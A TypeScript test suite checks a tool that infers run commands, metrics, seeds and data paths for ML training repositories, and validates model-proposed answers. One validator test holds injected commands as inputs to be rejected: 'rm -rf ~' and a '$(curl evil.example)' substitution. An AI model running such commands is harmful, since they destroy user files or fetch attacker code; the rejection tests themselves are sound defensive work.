import { strict as assert } from 'node:assert';
import { type Answers, detectEnvironment } from '../../../src/core/environment/detect/index.ts';
import type { Detected } from '../../../src/core/environment/index.ts';
import { KnownFormats } from '../../../src/core/metrics/index.ts';

const reads = (line: string) => new KnownFormats().parse(line).map(({ name }) => name);

function propose(files: Readonly<Record<string, string>>): Detected {
  return detectEnvironment(new Map(Object.entries(files)), { reads });
}

const LOOP = 'import torch\nfor epoch in range(3):\n    loss.backward()\n';

describe('what a document says of the run', () => {
  it('takes a command of its own block before one in a sentence, and never one that only queues', () => {
    const { environment } = propose({
      'README.md': '# t\nOverride: `python train.py --lr 1`.\n\n    sbatch go.sh\n\n    python train.py\n',
      'go.sh': 'srun python train.py\n',
      'train.py': LOOP,
    });
    assert.equal(environment.run, 'python train.py');
    const alone = propose({
      'README.md': '# t\n`python train.py`\n\nOverride:\n```\npython train.py --lr 1\n```\n',
      'train.py': LOOP,
    });
    assert.equal(alone.environment.run, 'python train.py');
    const queued = propose({
      'README.md': '# t\n`sbatch --qos=high go.sh`\n',
      'go.sh': 'python train.py\n',
      'train.py': LOOP,
    });
    assert.equal(queued.environment.run, 'bash go.sh');
  });

  it('takes a number that only a document knows, where it says which way is better and a run prints it', () => {
    const { environment, reasons } = propose({
      'program.md': 'Goal: minimise `ms` of `bench.py`. You may only change `kernel.py`.\nRun `python bench.py`.\n',
      'bench.py': 'from kernel import f\nprint(f"ms: {t:.4f}")\n',
      'kernel.py': 'BLOCK = 128\n',
    });
    assert.equal(environment.run, 'python bench.py');
    assert.deepEqual(environment.objective, { metric: 'ms', goal: 'minimize', summary: 'last' });
    assert.equal(reasons.objective, 'program.md:1 says so; bench.py:2 prints it');
  });

  it('puts the variables in that it sets itself, and drops where the output goes', () => {
    const { environment, reasons } = propose({
      'README.md':
        '# t\n```bash\nexport TASK=mrpc\npython run_glue.py \\\n  --task_name $TASK --lr 2e-5 > run.log 2>&1\n```\n',
      'run_glue.py': LOOP,
    });
    assert.equal(environment.run, 'python run_glue.py --task_name mrpc --lr 2e-5');
    assert.equal(reasons.run, 'the command in README.md:4');
  });

  it('does not run a command that a person must complete first', () => {
    for (const command of ['python main.py [folder with images]', 'python main.py --data <path to data>']) {
      const { environment, questions } = propose({ 'README.md': `# t\n\n    ${command}\n`, 'main.py': LOOP });
      assert.equal(environment.run, undefined);
      assert.ok(questions.run?.includes(`README.md:3 says "${command}"`), questions.run);
    }
  });

  it('takes the run that is meant before the one that shows that it starts', () => {
    const { environment } = propose({
      'README.md': '# t\n```\npython train.py trainer=cpu\n\npython train.py trainer=gpu\n```\n',
      'train.py': LOOP,
    });
    assert.equal(environment.run, 'python train.py trainer=gpu');
  });

  it('takes a limit as it is, and what training takes twice, but not what a download takes', () => {
    const timeout = (words: string) =>
      propose({ 'README.md': `# t\n${words}\n`, 'train.py': LOOP }).environment.resources?.timeout;
    assert.equal(timeout('If a run exceeds 10 minutes, kill it.'), '10m');
    assert.equal(timeout('Training takes about 20 minutes on one GPU.'), '40m');
    assert.equal(timeout('This will run for about 4 days.'), '192h');
    assert.equal(timeout('The download takes about 20 minutes.'), undefined);
  });
});

describe('names of metrics that a program puts together', () => {
  it('follows a part of the data into the name', () => {
    const { environment } = propose({
      'README.md': '# t\n`python fit.py`\n',
      'fit.py': 'import lightning as L\nfrom net import Net\nL.Trainer(max_epochs=3).fit(Net())\n',
      'net.py':
        'import lightning as L\nclass Net(L.LightningModule):\n    def _shared(self, batch, stage):\n' +
        '        self.log(f"{stage}/acc", acc, prog_bar=True)\n    def training_step(self, b, i):\n' +
        '        return self._shared(b, "train")\n    def validation_step(self, b, i):\n' +
        '        self._shared(b, "val")\n',
    });
    assert.deepEqual(environment.objective, { metric: 'val/acc', goal: 'maximize', summary: 'last' });
  });

  it('finds the classes that settings name', () => {
    const { environment, reasons } = propose({
      'README.md': '# t\n```\npython src/train.py\n```\n',
      'src/train.py': 'import hydra\n@hydra.main(config_path="../configs")\ndef main(cfg):\n    trainer.fit(model)\n',
      'configs/train.yaml': 'defaults:\n  - model: small\nseed: null\n',
      'configs/model/small.yaml': '_target_: src.models.small.Small\nlr: 0.1\n',
      'src/models/small.py':
        'import lightning\nclass Small(lightning.LightningModule):\n    def validation_step(self, b, i):\n        self.log("val/mae", mae)\n',
    });
    assert.equal(environment.objective?.metric, 'val/mae');
    assert.match(reasons.objective ?? '', /src\/models\/small\.py:4/);
    assert.deepEqual(environment.seed, { flag: 'seed=' });
  });

  it('takes what evaluate.load computes for the name that the Trainer prints', () => {
    const { environment } = propose({
      'train.py':
        'import evaluate\nfrom transformers import Trainer, TrainingArguments\nmetric = evaluate.load("accuracy")\n' +
        'def compute_metrics(p):\n    return metric.compute(predictions=p[0], references=p[1])\n' +
        'trainer = Trainer(args=TrainingArguments("out"), eval_dataset=d, compute_metrics=compute_metrics)\ntrainer.train()\n',
    });
    assert.equal(environment.objective?.metric, 'eval_accuracy');
  });

  it('finds what a function returns for a tracker', () => {
    const { environment } = propose({
      'train.py':
        'import wandb\ndef validate():\n    return {"val/solve_rate": s / n}\nfor step in range(9):\n    loss.backward()\n' +
        '    metrics = {"train/loss": loss}\n    metrics.update(validate())\n    wandb.log(metrics, step=step)\n',
    });
    assert.equal(environment.objective?.metric, 'val/solve_rate');
    assert.deepEqual(environment.metrics, [{ file: 'wandb/**/*.wandb' }]);
    assert.deepEqual(environment.env, { WANDB_MODE: 'offline' });
  });

  it('takes one number printed and kept in a group of curves for one', () => {
    const { environment } = propose({
      'train.py':
        `${LOOP}    print(f"global_step={step}, episodic_return={info['r']}")\n` +
        '    writer.add_scalar("charts/episodic_return", info["r"], step)\n',
    });
    assert.deepEqual(environment.objective, { metric: 'episodic_return', goal: 'maximize', summary: 'last' });
    assert.equal(environment.metrics, undefined);
  });

  it('names the file of a table where the program says its folder, and any folder where it does not', () => {
    const table = (open: string) =>
      propose({
        'train.py': `${LOOP}f = open(${open}, "w")\nw = csv.writer(f)\nw.writerow(["epoch", "val_mae"])\n`,
      }).environment.metrics;
    assert.deepEqual(table('"metrics.csv"'), [{ file: 'metrics.csv' }]);
    assert.deepEqual(table('out_dir / "metrics.csv"'), [{ file: '**/metrics.csv' }]);
  });
});

describe('what a result is measured by', () => {
  const regions = (code: string) => propose({ 'train.py': code }).environment.protected_regions;

  it('reaches from where it is decided to evaluate to the line that reports it, where no function evaluates', () => {
    const code =
      'for step in range(9):\n    if step % args.val_every == 0:\n        val_loss = 0\n        for x, y in held_out:\n' +
      '            val_loss += model(x, y)\n        print(f"step:{step} val_loss:{val_loss:.4f}")\n    loss.backward()\n';
    assert.deepEqual(regions(code), [
      {
        file: 'train.py',
        from: 'if step % args.val_every == 0:',
        to: 'print(f"step:{step} val_loss:{val_loss:.4f}")',
      },
    ]);
  });

  it('reaches from the statement that evaluates to the end of the call that reports it', () => {
    const code =
      'while time.time() < end:\n    loss.backward()\nval_bpb = evaluate_bpb(model)\nlogging.info(\n    "val_bpb: %.4f",\n    val_bpb,\n)\n';
    const [region] = regions(code) ?? [];
    assert.equal(region?.from, 'val_bpb = evaluate_bpb(model)');
    assert.equal(region?.to, 'val_bpb,');
  });

  it('is no region around a number that the program only sums up while it trains', () => {
    assert.equal(
      regions('for e in range(9):\n    val_loss = 0\n    loss.backward()\n    print(f"val_loss={val_loss}")\n'),
      undefined,
    );
  });
});

describe('data', () => {
  it('is named by the path that the program puts together', () => {
    const { environment } = propose({
      'train.py':
        "import os\nimport numpy as np\ndataset = 'owt'\ndata_dir = os.path.join('data', dataset)\ndef batch(split):\n" +
        "    return np.memmap(os.path.join(data_dir, 'train.bin' if split == 'train' else 'val.bin'))\nloss.backward()\n",
    });
    assert.deepEqual(environment.inputs, ['data/owt/train.bin', 'data/owt/val.bin']);
  });

  it('has its root from the default of a flag', () => {
    const { environment } = propose({
      'train.py':
        'import argparse, pathlib\np = argparse.ArgumentParser()\np.add_argument("--data-root", default="corpus")\n' +
        'args = p.parse_args()\nx = np.load(pathlib.Path(args.data_root) / f"train_{n}.npy")\nloss.backward()\n',
    });
    assert.deepEqual(environment.inputs, ['corpus/train_*.npy']);
  });

  it('outside of the repository stays open, with the place', () => {
    const { environment, questions } = propose({
      'train.py':
        'import os\nCACHE = os.path.join(os.path.expanduser("~"), ".cache", "lab")\nDATA = os.path.join(CACHE, "data")\nloss.backward()\n',
    });
    assert.equal(environment.inputs, undefined);
    assert.match(questions.inputs ?? '', /^train\.py:2 keeps data in ~\/\.cache\/lab, outside of the repository/);
  });
});

describe('hyperparameters', () => {
  it('are neither counters, nor how a run is spread over GPUs, nor what a script overrides', () => {
    const { hyperparameters } = propose({
      'README.md': '# t\n`bash train.sh`\n',
      'train.sh': 'torchrun --nproc_per_node=8 -m lab.main --lr 1e-4 "$@"\n',
      'lab/__init__.py': '',
      'lab/main.py':
        'import argparse\np = argparse.ArgumentParser()\np.add_argument("--lr", type=float, default=0.1)\n' +
        'warmup = 100\nseen = 0\nwhile True:\n    seen += 1\n    loss.backward()\n',
    });
    assert.deepEqual(
      hyperparameters.map(({ name, literal, path }) => `${path} ${name}=${literal}`),
      ['train.sh lr=1e-4', 'lab/main.py warmup=100'],
    );
  });
});

describe('what a model says to what stays open', () => {
  const files = {
    'README.md': '# t\n`bash go.sh`\n',
    'go.sh': 'python train.py --lr 0.1\n',
    'train.py':
      'import argparse\np = argparse.ArgumentParser()\np.add_argument("--random-state", type=int)\nloss.backward()\n' +
      'print(f"val_loss={a:.3f} val_mae={b:.3f} val_f1={c:.3f}")\n',
  };
  const told = (answers: Partial<Answers>) =>
    detectEnvironment(new Map(Object.entries(files)), { reads, answers: { from: 'the model m', ...answers } });

  it('chooses among what is printed, and nothing that is not', () => {
    const chosen = told({ metric: 'val_f1', goal: 'maximize' });
    assert.deepEqual(chosen.environment.objective, { metric: 'val_f1', goal: 'maximize', summary: 'last' });
    assert.equal(chosen.reasons.objective, 'the model m says so; train.py:5 prints it');
    const refused = told({ metric: 'val_bleu' });
    assert.equal(refused.environment.objective, undefined);
    assert.match(refused.questions.objective ?? '', /the model m said "val_bleu", which nothing prints or logs/);
  });

  it('changes nothing that the files say', () => {
    assert.equal(told({ run: 'python train.py' }).environment.run, 'bash go.sh');
  });

  it('gives no seed that the program does not have, or that the command does not hand on', () => {
    assert.match(told({ seed: { flag: '--seed' } }).questions.seed ?? '', /which the program does not have/);
    assert.match(told({ seed: { flag: '--random-state' } }).questions.seed ?? '', /go\.sh does not hand it on/);
  });

  it('gives a duration, or none', () => {
    assert.equal(told({ timeout: '45m' }).environment.resources?.timeout, '45m');
    assert.match(told({ timeout: 'for ever' }).questions['resources.timeout'] ?? '', /no duration to wait for/);
  });

  it('gives one plain command, which starts something that is here', () => {
    const bare = new Map([
      ['a.py', 'loss.backward()\n'],
      ['b.py', 'loss.backward()\n'],
    ]);
    const run = (command: string) =>
      detectEnvironment(bare, { reads, answers: { from: 'the model m', run: command } }).questions.run ?? '';
    assert.equal(run('python b.py'), '');
    assert.match(run('python c.py'), /there is no c\.py/);
    assert.match(run('echo done'), /names no file here/);
    assert.match(run('python b.py\nrm -rf ~'), /no plain command/);
    assert.match(run('python b.py $(curl evil.example)'), /no plain command/);
  });
});

describe('scripts and launchers', () => {
  it('run a trainer that is installed and no file here', () => {
    const { environment, open } = propose({
      'README.md': '# t\n`bash scripts/run_grpo.sh`\n',
      'scripts/run_grpo.sh': 'python3 -m verl.trainer.main_ppo \\\n  trainer.n_gpus_per_node=8 "$@"\n',
    });
    assert.equal(environment.run, 'bash scripts/run_grpo.sh');
    assert.equal(environment.resources?.gpus, 8);
    assert.ok(open.includes('objective'));
  });

  it('run the one file that may be edited, whatever it is called', () => {
    const { environment } = propose({
      'program.md': 'You improve `solver.py`. It is the only file you may edit.\nRun `python solver.py > run.log`.\n',
      'solver.py': 'from judge import score\nprint(f"score: {score(best):.4f}")\n',
      'judge.py': 'def score(x):\n    return 1\n',
    });
    assert.equal(environment.run, 'python solver.py');
    assert.deepEqual(environment.editable, ['solver.py']);
    assert.deepEqual(environment.protected, ['judge.py', 'program.md']);
    assert.equal(environment.objective?.metric, 'score');
  });

  it('run the file that may be edited, where other commands train too', () => {
    const { environment } = propose({
      'program.md': 'You may only edit `solve.py`.\n\n    python teacher.py\n\n    python solve.py\n',
      'solve.py': LOOP,
      'teacher.py': LOOP,
    });
    assert.equal(environment.run, 'python solve.py');
  });

  it('ask for as many GPUs as the variable says that they are given', () => {
    const { environment, hyperparameters } = propose({
      'README.md': '# t\n`bash run.sh`\n',
      'run.sh': `NGPU=\${NGPU:-4}\ntorchrun --nproc-per-node=$NGPU train.py --lr 0.1\n`,
      'train.py': LOOP,
      'zero.yaml': 'compute_environment: LOCAL_MACHINE\nnum_processes: 8\n',
    });
    assert.equal(environment.resources?.gpus, 4);
    assert.deepEqual(
      hyperparameters.map(({ name }) => name),
      ['lr'],
    );
  });

  it('ask for what their job asks for, where the launcher leaves one to a server beside it', () => {
    const { environment } = propose({
      'README.md': '# t\n`bash run.sh`\n',
      'run.sh': '#SBATCH --gres=gpu:8\naccelerate launch --num_processes 7 train.py\n',
      'train.py': LOOP,
    });
    assert.equal(environment.resources?.gpus, 8);
  });

  it('say which line holds a seed that nothing changes, of the settings that the run reads', () => {
    const seed = (files: Readonly<Record<string, string>>) => propose(files).questions.seed ?? '';
    assert.match(seed({ 'train.py': `${LOOP}clf = Forest(random_state=42)\n` }), /train\.py:4 sets 42/);
    assert.match(seed({ 'train.py': `${LOOP}keras.utils.set_random_seed(812)\n` }), /train\.py:4 sets 812/);
    const made = seed({
      Makefile: 'train:\n\tpython train.py --config configs/small.yaml\n',
      'configs/large.yaml': 'seed: 3\n',
      'configs/small.yaml': 'seed: 4\n',
      'train.py': LOOP,
    });
    assert.match(made, /configs\/small\.yaml:1 holds the seed 4/);
  });

  it('take their seed where a program reads its own flags', () => {
    const { environment } = propose({
      'train.py':
        'import sys\ncfg = dict(lr=1e-3, seed=1337)\nfor arg in sys.argv[1:]:\n    if arg.startswith("--"):\n' +
        '        k, v = arg[2:].split("=", 1)\n        cfg[k] = type(cfg[k])(v)\nloss.backward()\n',
    });
    assert.deepEqual(environment.seed, { flag: '--seed=' });
  });

  it('take their seed through make only where the recipe has it', () => {
    const make = (recipe: string, above = '') =>
      propose({
        Makefile: `${above}train:\n\tpython train.py ${recipe}\n`,
        'train.py': `import argparse\np = argparse.ArgumentParser()\np.add_argument("--seed", type=int)\n${LOOP}`,
      });
    assert.deepEqual(make('--seed $(SEED)').environment.seed, { env: 'SEED' });
    assert.equal(make('--seed $(SEED)', 'SEED = 3\n').environment.seed, undefined);
    assert.match(make('').questions.seed ?? '', /make does not hand it on: write \$\(SEED\) into the recipe/);
  });

  it('are started through bash where their mode does not let them start', () => {
    const files = new Map([
      ['README.md', '# t\n`./run.sh --lr 0.1`\n'],
      ['run.sh', 'python train.py "$@"\n'],
      ['train.py', LOOP],
    ]);
    const plain = detectEnvironment(files, { reads });
    assert.equal(plain.environment.run, './run.sh --lr 0.1');
    const { environment, reasons } = detectEnvironment(files, { reads, notExecutable: new Set(['run.sh']) });
    assert.equal(environment.run, 'bash run.sh --lr 0.1');
    assert.match(reasons.run ?? '', /^the command in README\.md:2; run\.sh is not executable/);
  });

  it('try one step with the flag that they have already', () => {
    const { environment } = propose({
      'README.md': '# t\n`python train.py --lr=3e-4 --steps=2000`\n',
      'train.py': `import argparse\np = argparse.ArgumentParser()\np.add_argument("--steps", type=int, default=9)\n${LOOP}`,
    });
    assert.equal(environment.smoke, 'python train.py --lr=3e-4 --steps=1');
  });
});

describe('a printed line', () => {
  const metrics = (code: string) => propose({ 'train.py': `${LOOP}${code}` }).environment;

  it('gives the value behind a count, not the count', () => {
    const environment = metrics('print(f"Accuracy of the network on the {len(data)} test images: {acc:.1f}%")\n');
    const [pattern] = environment.metrics ?? [];
    assert.equal(environment.objective?.metric, 'accuracy');
    const shown = 'Accuracy of the network on the 10000 test images: 91.5%';
    assert.equal(new RegExp(String(pattern)).exec(shown)?.groups?.accuracy, '91.5');
  });

  it('gives the curve before the best so far', () => {
    const code = 'print(f"best_val_acc={best:.3f} val_acc={acc:.3f}")\n';
    assert.equal(metrics(code).objective?.metric, 'val_acc');
  });

  it('is found where the label says more than the name, and behind a progress bar', () => {
    const shown = (code: string, line: string) => {
      const { objective, metrics: patterns } = metrics(`${code}\n`);
      const name = objective?.metric ?? '';
      const [pattern] = patterns ?? [];
      return pattern === undefined ? name : `${name}=${new RegExp(String(pattern)).exec(line)?.groups?.[name]}`;
    };
    assert.equal(
      shown(
        'print(f"Validation accuracy after epoch {epoch} is {a:.2%}")',
        'Validation accuracy after epoch 3 is 91.25%',
      ),
      'validation_accuracy=91.25',
    );
    assert.equal(shown('print(f"WER on dev: {w:.2f}%")', 'WER on dev: 7.31%'), 'wer_dev=7.31');
    assert.equal(shown('bar.set_postfix(loss=l, val_loss=v)', ''), 'val_loss');
  });

  it('belongs to the part of the data that was named last before it, under the name of its pattern’s group', () => {
    const code = 'print(f"Test: Loss: {losses.avg:>7.3f} Acc@1: {top1.avg:>7.3f} Acc@5: {top5.avg:>7.3f}")\n';
    const { objective, metrics: patterns } = metrics(code);
    assert.deepEqual(objective, { metric: 'test_acc_1', goal: 'maximize', summary: 'last' });
    const shown = 'Test: Loss:   1.204 Acc@1:  71.500 Acc@5:  90.100';
    assert.equal(new RegExp(String(patterns?.[0])).exec(shown)?.groups?.test_acc_1, '71.500');
    const parts = 'print(f"train {t:.4f} | valid {v:.4f} | acc {a:.2%}")\n';
    assert.equal(metrics(parts).objective?.metric, 'val_acc');
  });

  it('of a loss is not taken where a program beside it prints the task’s own measure', () => {
    const files = { 'train.py': `${LOOP}print(f"loss {l:.3f}")\n`, 'eval.py': 'print(f"Accuracy: {100 * a:.2f}%")\n' };
    const { environment, questions } = propose(files);
    assert.equal(environment.objective, undefined);
    assert.match(
      questions.objective ?? '',
      /^loss \(train\.py:4\) may be of training, and Accuracy \(eval\.py:1 prints it\)/,
    );
    assert.equal(propose({ ...files, 'eval.py': 'print(1)\n' }).environment.objective?.metric, 'loss');
  });

  it('has the names of the dict whose entries are printed one by one', () => {
    const code = 'scores = {"accuracy": a, "loss": b}\nfor k, v in scores.items():\n    print(f"val_{k}: {v:.4f}")\n';
    assert.deepEqual(metrics(code).objective, { metric: 'val_accuracy', goal: 'maximize', summary: 'last' });
  });

  it('decides nothing alone where the program itself keeps the best of another', () => {
    const code = 'log.info("step %d | rmse %.4f | mape %.2f", step, rmse, mape)\nbest = min(best, rmse)\n';
    assert.deepEqual(metrics(code).objective, { metric: 'rmse', goal: 'minimize', summary: 'last' });
  });

  it('is the Trainer’s own where reinforcement learning reports its reward', () => {
    const { objective } = metrics(
      'from trl import GRPOTrainer\nGRPOTrainer(reward_funcs=f, train_dataset=d).train()\n',
    );
    assert.deepEqual(objective, { metric: 'reward', goal: 'maximize', summary: 'last' });
  });
});

describe('trackers', () => {
  it('write where the program has them write', () => {
    const files = (code: string) =>
      propose({ 'train.py': `import lightning, wandb\n${LOOP}${code}` }).environment.metrics;
    assert.deepEqual(files('WandbLogger(project="x", save_dir="logs")\nself.log("val/miou", m)\n'), [
      { file: 'logs/wandb/**/*.wandb' },
    ]);
    assert.deepEqual(files('w = SummaryWriter(f"runs/{name}")\nw.add_scalar("val/miou", m, i)\n'), [
      { file: 'runs/**/*tfevents*' },
    ]);
    assert.deepEqual(files('w = SummaryWriter(workdir)\nw.add_scalar("val/miou", m, i)\n'), [
      { file: '**/*tfevents*' },
    ]);
  });

  it('are said to be out of reach where nothing here reads them', () => {
    for (const code of [
      'mlflow.log_metric("val/acc", a)',
      'swanlab.log({"val/acc": a})',
      'csv.DictWriter(f).writerow({"val_acc": a})',
    ]) {
      const { environment, questions } = propose({ 'train.py': `${LOOP}${code}\n` });
      assert.equal(environment.objective, undefined, code);
      assert.match(questions.objective ?? '', /val.acc \(train\.py:4\) goes where it cannot be read: print it/);
    }
  });

  it('write JSON lines by print as well', () => {
    const { objective, metrics } = propose({
      'train.py': `${LOOP}with (out / "stats.jsonl").open("a") as f:\n    print(json.dumps({"val/nll": v}), file=f)\n`,
    }).environment;
    assert.equal(objective?.metric, 'val/nll');
    assert.deepEqual(metrics, [{ file: '**/stats.jsonl' }]);
  });

  it('keep inner names with a dot between', () => {
    const { objective } = propose({ 'train.py': `${LOOP}wandb.log({"val": {"acc": a, "loss": l}})\n` }).environment;
    assert.equal(objective?.metric, 'val.acc');
  });

  it('print what clu is given', () => {
    const { objective, metrics } = propose({
      'train.py': `from clu import metric_writers\nw = metric_writers.create_default_writer(d)\n${LOOP}w.write_scalars(i, {"eval_accuracy": a})\n`,
    }).environment;
    assert.equal(objective?.metric, 'eval_accuracy');
    assert.equal(metrics, undefined);
  });

  it('are told of folders of data that settings name, unless the program fetches them', () => {
    const inputs = (code: string) =>
      propose({
        'README.md': '# t\n`python train.py --config c.yaml`\n',
        'c.yaml': 'data_root: data/city\n',
        'train.py': `${LOOP}${code}`,
      }).environment.inputs;
    assert.deepEqual(inputs(''), ['data/city']);
  });
});
